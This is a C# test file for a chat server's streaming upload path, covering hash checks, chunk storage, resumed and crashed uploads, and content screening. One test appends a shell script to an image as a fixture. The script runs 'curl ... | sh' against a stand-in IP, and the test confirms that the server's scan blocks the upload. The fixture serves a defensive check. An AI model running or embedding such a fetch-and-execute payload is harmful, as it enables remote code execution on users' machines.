using System.Net;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Parley.Core.Scanning;
using Parley.Core.Scanning.Features;
using Parley.Core.Problems;
using Parley.Core.Transfer;
using Parley.Server.Scanning;
using Parley.Server.Storage;
using Parley.Testing;
using static Parley.Server.Tests.Transfer.TransferDriver;

namespace Parley.Server.Tests.Transfer;

/// <summary>
/// Verification and chunk storage on the PATCH stream (docs/transfer.md, "Speed"): the content is hashed and cut while
/// it arrives, yet every byte is still held to the content id and the manifest's cut points, a resumed upload is
/// verified from its first byte, and a failed or blocked share leaves no chunk behind. Contents are larger than two
/// maximum chunks, sent in several PATCHes, so chunks are cut and written before the last byte.
/// </summary>
public sealed class StreamVerificationTests : IAsyncLifetime
{
    private const int Size = 9 * 1024 * 1024 + 12345;
    private readonly string _data = Path.Combine(Path.GetTempPath(), "parley-test-" + Guid.NewGuid().ToString("N"));
    private RunningServer _server = null!;

    private Task<RunningServer> Start() => RunningServer.StartAsync(
        new Dictionary<string, string> { ["Parley:Transfer:CollectEvery"] = "30.00:00:00" }, _data);

    public async Task InitializeAsync() => _server = await Start();

    public async Task DisposeAsync()
    {
        await _server.DisposeAsync();
        if (Directory.Exists(_data)) Directory.Delete(_data, recursive: true);
    }

    private async Task<(TestUser Alice, string Room)> Sender()
    {
        var api = new Api(_server);
        var alice = await api.NewUser("alice");
        return (alice, (await api.NewRoom(alice)).Id);
    }

    /// <summary>PATCHes <paramref name="bytes"/> from <paramref name="from"/> in pieces of 3 MiB; the answer of the last.</summary>
    private static async Task<HttpResponseMessage> PatchInPieces(TestUser user, string location, byte[] bytes, int from = 0)
    {
        HttpResponseMessage? last = null;
        for (var offset = from; offset < bytes.Length; offset += 3 * 1024 * 1024)
        {
            last = await Patch(user, location, offset, bytes[offset..Math.Min(bytes.Length, offset + 3 * 1024 * 1024)]);
            if (offset + 3 * 1024 * 1024 < bytes.Length) Assert.Equal(HttpStatusCode.NoContent, last.StatusCode);
        }
        return last!;
    }

    private async Task AssertNothingStored()
    {
        Assert.Empty(Directory.GetFiles(Path.Combine(_data, "blobs", "chunks"), "*", SearchOption.AllDirectories));
        Assert.Empty(Directory.GetFileSystemEntries(Path.Combine(_data, "uploads")));
        var api = new Api(_server);
        Assert.False(await api.InDatabase(db => db.Chunks.AnyAsync()));
        Assert.False(await api.InDatabase(db => db.Blobs.AnyAsync()));
    }

    private async Task AssertDelivered(TestUser user, string transferId, byte[] content)
    {
        var transfer = await Api.Read<TransferDto>(await user.Http.GetAsync($"/api/transfers/{transferId}"));
        Assert.Equal(TransferState.Delivered, transfer.State);
        Assert.Equal(content, await user.Http.GetByteArrayAsync($"/api/media/{transfer.Message!.Id}"));
        // What was cut on the stream is what the chunk store now holds, and nothing of the upload is left.
        var chunks = await new Api(_server).InDatabase(db => db.BlobChunks.Where(c => c.BlobId == transfer.ContentId).CountAsync());
        Assert.Equal(chunks, Directory.GetFiles(Path.Combine(_data, "blobs", "chunks"), "*", SearchOption.AllDirectories).Length);
        Assert.Empty(Directory.GetFileSystemEntries(Path.Combine(_data, "uploads")));
    }

    [Theory]
    [InlineData(false, 0)]
    [InlineData(false, 5 * 1024 * 1024)]
    [InlineData(false, Size - 1)]
    [InlineData(true, 4 * 1024 * 1024 + 7)]
    public async Task A_wrong_byte_anywhere_fails_the_transfer_and_stores_nothing(bool withManifest, int at)
    {
        var (alice, room) = await Sender();
        var content = RandomPicture(Size);
        var request = Announce(content, room: room, withManifest: withManifest);
        var transfer = await CreateAndProve(alice, request, content);
        var location = await StartUpload(alice, transfer.Id, content.Length);
        var sent = content.ToArray();
        sent[at] ^= 0x01;

        await Api.AssertProblem(await PatchInPieces(alice, location, sent), HttpStatusCode.UnprocessableEntity, ProblemCodes.TransferHashMismatch);
        await AssertNothingStored();
    }

    [Fact]
    public async Task The_right_bytes_under_cut_points_that_are_not_the_contents_fail_and_store_nothing()
    {
        var (alice, room) = await Sender();
        var content = RandomPicture(Size);
        var honest = Announce(content, room: room, withManifest: true);
        // The first cut one byte later: every chunk id is the true hash of its bytes, only the cut point is the client's.
        var chunks = honest.Chunks!.ToList();
        chunks[0] = new ChunkDto(ContentId.Of(content.AsSpan(0, chunks[0].Length + 1)).ToString(), chunks[0].Length + 1);
        chunks[1] = new ChunkDto(ContentId.Of(content.AsSpan(chunks[0].Length, chunks[1].Length - 1)).ToString(), chunks[1].Length - 1);
        var request = honest with { Chunks = chunks };
        var transfer = await CreateAndProve(alice, request, content);
        Assert.Equal(content.Length, transfer.Upload!.Length);
        var location = await StartUpload(alice, transfer.Id, content.Length);

        await Api.AssertProblem(await PatchInPieces(alice, location, content), HttpStatusCode.UnprocessableEntity, ProblemCodes.TransferHashMismatch);
        await AssertNothingStored();
    }

    /// <summary>
    /// After a restart the node has no hash state for the upload: it re-hashes the received prefix from the upload file, so
    /// a prefix that changed on disk meanwhile is caught, and an intact one is delivered with the right chunks.
    /// </summary>
    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task An_upload_resumed_after_a_restart_is_verified_from_its_first_byte(bool prefixChanged)
    {
        var (alice, room) = await Sender();
        var content = RandomPicture(Size);
        var request = Announce(content, room: room, withManifest: true);
        var transfer = await CreateAndProve(alice, request, content);
        var location = await StartUpload(alice, transfer.Id, content.Length);
        const int half = 6 * 1024 * 1024;
        Assert.Equal(HttpStatusCode.NoContent, (await Patch(alice, location, 0, content[..half])).StatusCode);
        // Chunks are cut and written while the bytes arrive, before the last one.
        Assert.NotEmpty(Directory.GetFiles(Path.Combine(_data, "uploads", location.Split('/')[^1] + ".chunks")));
        await _server.StopAsync();
        if (prefixChanged)
        {
            await using var file = File.OpenWrite(Path.Combine(_data, "uploads", location.Split('/')[^1]));
            file.Position = 1000;
            file.WriteByte((byte)(content[1000] ^ 0xff));
        }

        _server = await Start();
        var http = _server.CreateHttpClient();
        http.DefaultRequestHeaders.Authorization = new("Bearer", (await new Api(_server).SignIn(alice.Name)).Token);
        var again = alice with { Http = http };
        Assert.Equal(half, await Offset(again, location));
        var last = await PatchInPieces(again, location, content, from: half);

        if (prefixChanged)
        {
            await Api.AssertProblem(last, HttpStatusCode.UnprocessableEntity, ProblemCodes.TransferHashMismatch);
            await AssertNothingStored();
        }
        else
        {
            Assert.Equal(HttpStatusCode.NoContent, last.StatusCode);
            await AssertDelivered(again, transfer.Id, content);
        }
    }

    /// <summary>
    /// A process killed after some parts were renamed into the chunk store and before the blob's rows committed (with a
    /// part cut short by the kill): at restart the completion runs again, rewrites the parts from the upload file, keeps
    /// the chunk files already in place, and delivers the exact bytes.
    /// </summary>
    [Fact]
    public async Task An_upload_killed_between_chunk_writes_and_commit_is_delivered_whole_at_restart()
    {
        var (alice, room) = await Sender();
        var content = RandomPicture(Size);
        var request = Announce(content, room: room, withManifest: true);
        var transfer = await CreateAndProve(alice, request, content);
        var location = await StartUpload(alice, transfer.Id, content.Length);
        var uploadId = location.Split('/')[^1];
        Assert.Equal(HttpStatusCode.NoContent, (await PatchInPieces(alice, location, content[..^1])).StatusCode);
        // The last byte recorded, then the kill: the first chunk already renamed into the store, the second cut short.
        await File.AppendAllBytesAsync(Path.Combine(_data, "uploads", uploadId), content[^1..]);
        var api = new Api(_server);
        await api.InDatabase(db => db.Uploads.Where(u => u.Id == uploadId).ExecuteUpdateAsync(u => u.SetProperty(x => x.Offset, content.Length)));
        await _server.StopAsync();
        var first = ContentId.Parse(request.Chunks![0].Id).Hex;
        var second = ContentId.Parse(request.Chunks[1].Id).Hex;
        var parts = Path.Combine(_data, "uploads", uploadId + ".chunks");
        var store = Path.Combine(_data, "blobs", "chunks", first[..2]);
        Directory.CreateDirectory(store);
        File.Move(Path.Combine(parts, first), Path.Combine(store, first));
        await using (var cut = File.OpenWrite(Path.Combine(parts, second))) cut.SetLength(1000);

        _server = await Start();

        var http = _server.CreateHttpClient();
        http.DefaultRequestHeaders.Authorization = new("Bearer", (await new Api(_server).SignIn(alice.Name)).Token);
        await AssertDelivered(alice with { Http = http }, transfer.Id, content);
    }

    [Fact]
    public async Task A_share_the_second_detection_blocks_leaves_no_chunk_behind()
    {
        var (alice, room) = await Sender();
        // A picture carrying a shell script after its end marker: the server's scan blocks it after the last byte.
        var content = (byte[])[.. RandomPicture(Size), .. System.Text.Encoding.ASCII.GetBytes($"#!/bin/sh\ncurl -s http://203.0.113.9/{Guid.NewGuid():N} | sh\n")];
        var request = Announce(content, room: room, withManifest: true);
        var transfer = await CreateAndProve(alice, request, content);
        var location = await StartUpload(alice, transfer.Id, content.Length);

        await Api.AssertProblem(await PatchInPieces(alice, location, content), HttpStatusCode.UnprocessableEntity, ProblemCodes.ShareBlocked);
        await AssertNothingStored();
    }

    /// <summary>
    /// The share screening's inspection is fed on the stream, and after a restart the node rebuilds it from the received
    /// prefix: a library pattern whose first half came before the restart and second half after it is still found.
    /// </summary>
    [Fact]
    public async Task A_pattern_split_across_a_restart_is_still_blocked()
    {
        var (alice, room) = await Sender();
        var content = RandomPicture(Size);
        const int half = 6 * 1024 * 1024;
        // 16 bytes of pixel noise across the PATCH that ends at the restart (pixels have the top bit set; filter bytes and block headers do not).
        var start = Enumerable.Range(half - 12, 8).First(s => content.AsSpan(s, 16).IndexOfAnyInRange((byte)0, (byte)0x7F) < 0);
        var name = Api.UniqueName("Parley.Test.Split");
        using (var scope = _server.Services.CreateScope())
            await scope.ServiceProvider.GetRequiredService<FeatureLibraryService>().PublishAsync(scope.ServiceProvider.GetRequiredService<ParleyDbContext>(),
                [new Feature(name, "split across a restart", new PatternSignature(BytePattern.Parse(Convert.ToHexStringLower(content.AsSpan(start, 16))), PatternAnchor.Anywhere))],
                "test", CancellationToken.None);
        var transfer = await CreateAndProve(alice, Announce(content, room: room, withManifest: true), content);
        var location = await StartUpload(alice, transfer.Id, content.Length);
        Assert.Equal(HttpStatusCode.NoContent, (await Patch(alice, location, 0, content[..half])).StatusCode);
        await _server.StopAsync();

        _server = await Start();
        var http = _server.CreateHttpClient();
        http.DefaultRequestHeaders.Authorization = new("Bearer", (await new Api(_server).SignIn(alice.Name)).Token);
        var last = await PatchInPieces(alice with { Http = http }, location, content, from: half);

        await Api.AssertProblem(last, HttpStatusCode.UnprocessableEntity, ProblemCodes.ShareBlocked);
        var findings = await new Api(_server).InDatabase(db => db.ScanVerdicts.Where(v => v.ContentId == transfer.ContentId).Select(v => v.Findings).SingleAsync());
        Assert.Contains(name, findings);
        await AssertNothingStored();
    }
}
